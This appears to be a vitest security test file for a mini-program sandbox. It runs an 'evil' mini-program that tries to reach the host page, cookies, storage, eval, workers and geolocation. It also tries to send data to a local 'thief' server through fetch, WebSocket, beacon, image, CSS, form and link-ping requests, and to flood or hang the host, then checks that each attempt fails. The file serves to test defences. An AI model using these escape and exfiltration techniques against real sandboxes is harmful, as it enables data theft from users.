import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { inMemory } from "@everywhere/mini-compiler";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { Driver, hasBrowser, type Phone } from "./driver.ts";

/**
 * A program's code with the frame's real global object, which it can always get. It runs from a timer: while a debugger
 * evaluates something, a browser lets code be made from text. What it answers it tells as an analytics event.
 */
const evil = (code: string) =>
  inMemory({
    "/app.json": '{"pages": ["a"]}',
    "/app.js": "App({})",
    "/a.axml": "<view>evil</view>",
    "/a.js": `const real = Function("return this")(); const act = async (thief) => { ${code} };
      Page({ go(thief) { setTimeout(async () => { my.reportAnalytics({ eventName: 'tried', data: await act(thief) }); }); } })`,
  });

describe.skipIf(!hasBrowser)("an evil program", () => {
  let driver: Driver;
  let thief: Server;
  let address: string;
  let stolen: string[] = [];
  beforeAll(async () => {
    driver = await Driver.start();
    thief = createServer((request, response) => {
      stolen.push(request.url ?? "");
      response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("{}");
    });
    thief.on("upgrade", (request, socket) => {
      stolen.push(request.url ?? "");
      socket.destroy();
    });
    await new Promise<void>((done) => thief.listen(0, "127.0.0.1", done));
    address = `127.0.0.1:${(thief.address() as AddressInfo).port}`;
  }, 60_000);
  beforeEach(() => {
    stolen = [];
  });
  afterAll(async () => {
    await driver.stop();
    thief.closeAllConnections();
    await new Promise((done) => thief.close(done));
  });

  const begin = (phone: Phone) =>
    phone.frame.evaluate((to) => {
      (globalThis as unknown as { getCurrentPages(): { go(thief: string): void }[] }).getCurrentPages()[0]?.go(to);
    }, address);

  /** Runs the page's `go` and tells what it answers. */
  const run = async (phone: Phone): Promise<unknown> => {
    await begin(phone);
    const isAnswer = (line: string) => line.startsWith("call ") && line.includes('"tried"');
    await phone.until((events) => events.some(isAnswer));
    const line = (await phone.events()).find(isAnswer) ?? "";
    return (JSON.parse(line.slice(5)) as { options: { data: unknown } }).options.data;
  };

  const TRIES = `
    const tried = {};
    const attempt = async (name, act) => { try { tried[name] = String(await act()); } catch (why) { tried[name] = 'refused'; } };`;

  it("cannot see the host's page, nor keep anything, nor make code, frames or workers", async () => {
    const phone = await driver.open(
      evil(`${TRIES}
      await attempt('host DOM', () => real.parent.document.title);
      await attempt('top', () => { real.top.location.href = 'http://' + thief + '/top'; return 'led away'; });
      await attempt('cookies', () => real.document.cookie);
      await attempt('localStorage', () => real.localStorage.length);
      await attempt('sessionStorage', () => real.sessionStorage.length);
      await attempt('indexedDB', () => new Promise((done, failed) => { const open = real.indexedDB.open('x'); open.onsuccess = () => done('opened'); open.onerror = failed; }));
      await attempt('caches', () => real.caches.open('x'));
      await attempt('service worker', () => real.navigator.serviceWorker.register('logic.js'));
      await attempt('eval', () => (0, real.eval)('1'));
      await attempt('constructor', () => (() => {}).constructor('return 1')());
      await attempt('timer text', () => new Promise((done) => { real.setTimeout('globalThis.ran = 1', 0); real.setTimeout(() => done(real.ran), 50); }));
      await attempt('window', () => real.open('http://' + thief + '/open'));
      await attempt('frame', () => { const f = real.document.createElement('iframe'); real.document.body.append(f); return f.contentWindow.eval; });
      await attempt('worker', () => new Promise((done, failed) => { const w = new real.Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => done('ran'); w.onerror = failed; }));
      await attempt('peer', () => typeof real.RTCPeerConnection);
      await attempt('place', () => new Promise((done, failed) => real.navigator.geolocation.getCurrentPosition(done, failed)));
      await attempt('clipboard', () => real.navigator.clipboard.readText());
      return tried;`),
    );
    expect(await run(phone)).toEqual({
      "host DOM": "refused",
      top: "refused",
      cookies: "refused",
      localStorage: "refused",
      sessionStorage: "refused",
      indexedDB: "refused",
      caches: "refused",
      "service worker": "refused",
      eval: "refused",
      constructor: "refused",
      "timer text": "undefined",
      window: "null",
      frame: "refused",
      worker: "refused",
      peer: "undefined",
      place: "refused",
      clipboard: "refused",
    });
    expect(stolen).toEqual([]);
    await phone.close();
  }, 60_000);

  it("reaches no network: not by a call, a picture, a style, a font, a form, a link, nor by leading its frame away", async () => {
    const phone = await driver.open(
      evil(`${TRIES}
      const url = (name) => 'http://' + thief + '/' + name;
      const d = real.document;
      await attempt('fetch', () => real.fetch(url('fetch')).then(() => 'reached'));
      await attempt('xhr', () => new Promise((done, failed) => { const x = new real.XMLHttpRequest(); x.open('GET', url('xhr')); x.onload = done; x.onerror = failed; x.send(); }));
      await attempt('socket', () => new Promise((done, failed) => { const s = new real.WebSocket('ws://' + thief + '/socket'); s.onopen = done; s.onerror = failed; }));
      await attempt('events', () => new Promise((done, failed) => { const s = new real.EventSource(url('events')); s.onopen = done; s.onerror = failed; }));
      real.navigator.sendBeacon(url('beacon'), 'x');
      await attempt('picture', () => new Promise((done, failed) => { const i = new real.Image(); i.onload = done; i.onerror = failed; i.src = url('picture'); }));
      await attempt('script', () => new Promise((done, failed) => { const s = d.createElement('script'); s.onload = done; s.onerror = failed; s.src = url('script'); d.head.append(s); }));
      await attempt('import', () => import(url('import')));
      const style = d.createElement('style'); style.textContent = '@import "' + url('css') + '"; body { background: url(' + url('background') + ') } @font-face { font-family: f; src: url(' + url('font') + ') } body { font-family: f }'; d.head.append(style);
      for (const rel of ['prefetch', 'preload', 'preconnect', 'stylesheet', 'modulepreload', 'prerender']) { const l = d.createElement('link'); l.rel = rel; l.as = 'script'; l.href = url(rel); d.head.append(l); }
      const form = d.createElement('form'); form.action = url('form'); d.body.append(form); form.submit();
      const a = d.createElement('a'); a.href = url('link'); a.ping = url('ping'); d.body.append(a); a.click();
      const meta = d.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + url('refresh'); d.head.append(meta);
      const object = d.createElement('object'); object.data = url('object'); d.body.append(object);
      setTimeout(() => { real.location.href = url('self'); }, 300);
      return tried;`),
    );
    expect(await run(phone)).toEqual({
      fetch: "refused",
      xhr: "refused",
      socket: "refused",
      events: "refused",
      picture: "refused",
      script: "refused",
      import: "refused",
    });
    await phone.page.waitForTimeout(1200);
    // A preconnect opens a connection and says nothing; no request was made.
    expect(stolen).toEqual([]);
    await phone.close();
  }, 60_000);

  it("gets nothing from the host that is not offered or granted, and no second port", async () => {
    const phone = await driver.open(
      evil(`${TRIES}
      const number = (call) => call.then(() => 'answered', (why) => why.error);
      tried.place = await number(my.getLocation({}));
      tried.refused = await number(my.authorize({ scopes: 'scope.userLocation' }));
      tried.network = await number(my.request({ url: 'http://127.0.0.1/' }));
      for (const url of ['ws://' + thief + '/', 'ws://127.0.0.1:1/', 'wss://other.example/', 'wss://listed.example@' + thief + '/'])
        (tried.sockets ??= []).push(await number(my.connectSocket({ url })));
      tried.task = await new Promise((done) => my.connectSocket({ url: 'ws://' + thief + '/', multiple: true }).onError(({ error }) => done(error)));
      tried.payment = await number(my.tradePay({ tradeNO: '1' }));
      tried.unknown = await new Promise((done) => my.call('openHostSettings', {}, (why) => done(why.error)));
      tried.prototype = await new Promise((done) => my.call('constructor', {}, (why) => done(why.error)));
      let ports = 0;
      real.addEventListener('message', (event) => { ports += event.ports.length; });
      real.parent.postMessage('mini-ready', '*');
      real.parent.postMessage({ i: 1, m: 'alert', a: {} }, '*');
      await new Promise((done) => setTimeout(done, 200));
      tried.ports = ports;
      return tried;`),
    );
    const answer = run(phone);
    await phone.page.getByRole("button", { name: "Refuse" }).click();
    expect(await answer).toEqual({
      place: 2001,
      refused: 2001,
      network: 11,
      sockets: [1, 1, 1, 1],
      task: 1,
      payment: 4,
      unknown: 1,
      prototype: 1,
      ports: 0,
    });
    expect(stolen).toEqual([]);
    const refused = (await phone.events()).filter((line) => line.startsWith('refused {"method":"connectSocket"'));
    expect(refused).toHaveLength(5);
    await phone.close();
  }, 60_000);

  it("is ended when it floods the port", async () => {
    const phone = await driver.open(
      evil(
        "setInterval(() => { for (let i = 0; i < 500; i++) my.vibrateShort().catch(() => {}); my.setStorageSync({ key: 'k', data: 1 }); }, 1); for (let i = 0; i < 2000; i++) my.setStorageSync({ key: 'k' + i, data: i });",
      ),
    );
    await begin(phone);
    await phone.page.getByText("sent too many messages").waitFor();
    expect(phone.page.frames().length).toBe(1);
    await phone.close();
  }, 60_000);

  it("is ended when it never answers, and the host's page goes on", async () => {
    const phone = await driver.open(evil("setTimeout(() => { for (;;); }, 50);"));
    await begin(phone);
    // In one process with the frame, the host's own clock would stand still and never say so.
    await phone.page.getByText("does not answer").waitFor({ timeout: 30_000 });
    await phone.page.getByRole("button", { name: "Start again" }).click();
    await phone.page.frameLocator("iframe").getByText("evil").waitFor();
    await phone.close();
  }, 90_000);
});
